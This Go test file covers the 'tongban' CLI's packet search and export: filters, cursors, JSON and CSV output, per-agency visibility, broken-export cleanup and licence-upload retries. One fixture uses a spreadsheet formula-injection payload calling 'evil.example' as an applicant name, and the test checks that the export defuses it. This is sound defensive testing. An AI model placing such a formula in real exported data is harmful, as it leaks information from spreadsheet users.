package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"tongban/api/apitest"
)

// tableIDs returns the packet ids of a `tongban packets` table, in order.
func tableIDs(out string) []string {
	var ids []string
	for _, m := range regexp.MustCompile(`(?m)^(pk-\S+)\s`).FindAllStringSubmatch(out, -1) {
		ids = append(ids, m[1])
	}
	return ids
}

func sorted(s []string) []string {
	s = slices.Clone(s)
	slices.Sort(s)
	return s
}

// TestCLIPackets searches packets with `tongban packets` on the real
// binary: the listing's filters, pages and cursors, --all, --json, and
// --csv to stdout (the server's bytes) and to a file, where an agency
// sees only its own packets and an applicant's formula stays text.
func TestCLIPackets(t *testing.T) {
	dir := t.TempDir()
	gw := serve(t, filepath.Join(dir, "data"))
	auditor := tokenEnv(gw, "yrd-audit:auditor")
	submit := func(who, dest, name string) string {
		args, _ := companyArgs(t, dir)
		for i, a := range args {
			switch {
			case a == "--destination":
				args[i+1] = dest
			case a == "--applicant-name":
				args[i+1] = name
			}
		}
		out := mustRun(t, tokenEnv(gw, who), append(args, "--server", gw.url)...)
		m := packetID.FindStringSubmatch(out)
		if m == nil {
			t.Fatalf("no packet id in %q", out)
		}
		return m[1]
	}
	const formula = `=HYPERLINK("http://evil.example/?leak","点击查看")`
	a := submit("jiashan-window:submitter", "qingpu-amr", formula)
	b := submit("jiashan-window:submitter", "qingpu-amr", "上海青嘉贸易有限公司")
	c := submit("wujiang-window:submitter", "qingpu-window", "吴江测试有限公司")
	mustRun(t, tokenEnv(gw, "qingpu-amr:reviewer"), "act", a, "receive", "--server", gw.url)
	every := sorted([]string{a, b, c})

	// The auditor's table: every packet, times local with the zone.
	out := mustRun(t, auditor, "packets", "--server", gw.url)
	if !strings.HasPrefix(out, "ID ") || !slices.Equal(sorted(tableIDs(out)), every) {
		t.Fatalf("packets lists %v, want %v:\n%s", tableIDs(out), every, out)
	}
	if !regexp.MustCompile(c + `\s+submitted\s+ENT-SETUP\s+wujiang-window\s+qingpu-window\s+\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \+08:00 CST\s+\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \+08:00 CST`).MatchString(out) {
		t.Errorf("no row of %s with local times:\n%s", c, out)
	}
	tomorrow := time.Now().In(time.FixedZone("CST", 8*3600)).AddDate(0, 0, 1).Format(time.DateOnly)
	for _, tc := range []struct {
		args []string
		want []string
	}{
		{[]string{"--status", "received"}, []string{a}},
		{[]string{"--origin", "wujiang-window"}, []string{c}},
		{[]string{"--item", "ENT-SETUP", "--destination", "qingpu-amr"}, []string{a, b}},
		{[]string{"--overdue=false"}, every},
		{[]string{"--overdue"}, nil},
		{[]string{"--from", tomorrow}, nil},
		{[]string{"--to", tomorrow, "--origin", "jiashan-window"}, []string{a, b}},
	} {
		out := mustRun(t, auditor, append([]string{"packets", "--server", gw.url}, tc.args...)...)
		if got := sorted(tableIDs(out)); !slices.Equal(got, sorted(tc.want)) || (tc.want == nil && !strings.Contains(out, "no packets match")) {
			t.Errorf("packets %v: %v, want %v:\n%s", tc.args, got, tc.want, out)
		}
	}

	// One packet a page: the cursor printed leads to the next page; --all
	// follows every cursor, as the proxy sees.
	code, out, errOut := tongban(t, auditor, "packets", "--limit", "1", "--server", gw.url)
	m := regexp.MustCompile(`--cursor (\S+)`).FindStringSubmatch(errOut)
	if code != 0 || len(tableIDs(out)) != 1 || m == nil {
		t.Fatalf("--limit 1: exit %d\n%s\n%s", code, out, errOut)
	}
	first := tableIDs(out)[0]
	out = mustRun(t, auditor, "packets", "--limit", "1", "--cursor", m[1], "--server", gw.url)
	if ids := tableIDs(out); len(ids) != 1 || ids[0] == first {
		t.Fatalf("the next page %v after %s", ids, first)
	}
	proxy, purl := newProxy(t, gw, nil)
	code, out, errOut = tongban(t, auditor, "packets", "--limit", "1", "--all", "--server", purl)
	if code != 0 || !slices.Equal(sorted(tableIDs(out)), every) || tableIDs(out)[0] != first || strings.Contains(errOut, "--cursor") {
		t.Fatalf("--all: exit %d\n%s\n%s", code, out, errOut)
	}
	if n := len(proxy.requests()); n != 3 {
		t.Fatalf("--all over 3 pages of 1 sent %d requests", n)
	}
	var list struct {
		Packets    []struct{ ID string }
		NextCursor string `json:"next_cursor"`
	}
	if err := json.Unmarshal([]byte(mustRun(t, auditor, "packets", "--json", "--all", "--limit", "2", "--server", gw.url)), &list); err != nil || len(list.Packets) != 3 || list.NextCursor != "" {
		t.Fatalf("--json --all: %v %+v", err, list)
	}

	// --csv writes the server's export as it is.
	out = mustRun(t, auditor, "packets", "--csv", "--origin", "jiashan-window", "--server", gw.url)
	req, _ := http.NewRequest("GET", gw.url+"/v1/packets?format=csv&origin=jiashan-window", nil)
	req.Header.Set("Authorization", "Bearer "+gw.tokens["yrd-audit:auditor"])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	server, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if out != string(server) || !strings.HasPrefix(out, "\xef\xbb\xbfid,item,origin,destination,status,submitted,deadline") {
		t.Fatalf("--csv wrote\n%q\nthe server sent\n%q", out, server)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\xef\xbb\xbf"))).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("auditor CSV: %v\n%s", err, out)
	}
	for _, r := range rows[1:] {
		if r[11] != "" || !strings.HasSuffix(r[5], "+08:00") {
			t.Errorf("auditor CSV row %q: applicant shown or time not at +08:00", r)
		}
	}

	// The reviewer's inbox to a file: its packets only, the formula as text.
	file := filepath.Join(dir, "export", "inbox.csv")
	os.Mkdir(filepath.Dir(file), 0o700)
	mustRun(t, tokenEnv(gw, "qingpu-amr:reviewer"), "packets", "--box", "inbox", "--csv", "--out", file, "--server", gw.url)
	got, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(got), a) || !strings.Contains(string(got), b) || strings.Contains(string(got), c) || strings.Contains(string(got), "吴江测试有限公司") {
		t.Fatalf("qingpu-amr's inbox export:\n%s", got)
	}
	rows, _ = csv.NewReader(bytes.NewReader(bytes.TrimPrefix(got, []byte("\xef\xbb\xbf")))).ReadAll()
	for _, r := range rows {
		if r[0] == a && r[11] != "'"+formula {
			t.Errorf("the applicant's formula is not defused: %q", r[11])
		}
	}
	if ents, _ := os.ReadDir(filepath.Dir(file)); len(ents) != 1 {
		t.Errorf("left beside the export: %v", ents)
	}

	// Refusals: usage (exit 2) before any request, the server's (exit 1) with its reasons.
	for _, tc := range []struct {
		env  []string
		args []string
		code int
		want string
	}{
		{auditor, []string{"--csv", "--limit", "5"}, 2, "no --limit or --cursor"},
		{auditor, []string{"--out", file}, 2, "--out is for --csv"},
		{auditor, []string{"--csv", "--json"}, 2, "exclude each other"},
		{auditor, []string{"--overdue=maybe"}, 2, "must be true or false"},
		{auditor, []string{"--status", "lost"}, 1, "status: unknown status"},
		{auditor, []string{"--csv", "--from", "yesterday"}, 1, "from: must be a date"},
		{tokenEnv(gw, "jiashan-window:submitter"), []string{"--box", "all"}, 1, "403"},
	} {
		code, out, errOut := tongban(t, tc.env, append([]string{"packets", "--server", gw.url}, tc.args...)...)
		if code != tc.code || !strings.Contains(errOut, tc.want) || out != "" {
			t.Errorf("packets %v: exit %d, want %d with %q\n%s\n%s", tc.args, code, tc.code, tc.want, out, errOut)
		}
	}
}

// TestCLIPacketsCSVBrokenOff: an export that breaks off mid-way is an
// error, and --out leaves no file, partial or temporary.
func TestCLIPacketsCSVBrokenOff(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/csv; charset=utf-8")
		w.Header().Set("Content-Length", "100000")
		w.WriteHeader(200)
		io.WriteString(w, "\xef\xbb\xbfid,item,origin\npk-1,ENT-SETUP,jiashan-window\n")
		w.(http.Flusher).Flush()
		if conn, _, err := w.(http.Hijacker).Hijack(); err == nil {
			conn.Close()
		}
	}))
	defer srv.Close()
	dir := t.TempDir()
	file := filepath.Join(dir, "all.csv")
	code, out, errOut := tongban(t, []string{"TONGBAN_TOKEN=x"}, "packets", "--csv", "--out", file, "--server", srv.URL)
	if code != 1 || !strings.Contains(errOut, "the export broke off") {
		t.Fatalf("exit %d\n%s\n%s", code, out, errOut)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		t.Fatalf("a broken export left %v", ents)
	}
}

// TestCLILicenceRetriedOnce loses the answer to a licence upload after the
// gateway recorded it: the CLI retries with the same Idempotency-Key and
// the gateway replays it, so the packet has one licence entry.
func TestCLILicenceRetriedOnce(t *testing.T) {
	dir := t.TempDir()
	gw := serve(t, filepath.Join(dir, "data"))
	args, _ := companyArgs(t, dir)
	id := packetID.FindStringSubmatch(mustRun(t, tokenEnv(gw, "jiashan-window:submitter"), append(args, "--server", gw.url)...))[1]
	qingpu := tokenEnv(gw, "qingpu-amr:reviewer")
	mustRun(t, qingpu, "act", id, "receive", "--server", gw.url)
	mustRun(t, qingpu, "act", id, "approve", "--server", gw.url)
	licence := filepath.Join(dir, "营业执照.pdf")
	os.WriteFile(licence, apitest.PDF(3000), 0o600)

	proxy, purl := newProxy(t, gw, firstOnly("POST", "/v1/packets/"+id+"/license", "drop"))
	code, out, errOut := tongban(t, qingpu, "licence", id, licence, "--server", purl)
	if code != 0 || !strings.Contains(out, id+": license_issued") || !strings.Contains(errOut, "retrying in") {
		t.Fatalf("licence through a lossy proxy: exit %d\n%s\n%s", code, out, errOut)
	}
	var posts []seenRequest
	for _, r := range proxy.requests() {
		if r.method == "POST" {
			posts = append(posts, r)
		}
	}
	if len(posts) != 2 || posts[0].fault != "drop" || posts[0].key == "" || posts[1].key != posts[0].key {
		t.Fatalf("want the dropped POST and one retry with the same key: %+v", posts)
	}
	var h struct{ Events []struct{ Type string } }
	json.Unmarshal(gw.call(t, "GET", "/v1/packets/"+id+"/history", "qingpu-amr:reviewer", nil), &h)
	n := 0
	for _, e := range h.Events {
		if e.Type == "license.issued" {
			n++
		}
	}
	if n != 1 {
		t.Fatalf("%d licence entries after a retried upload, want 1: %+v", n, h.Events)
	}
}
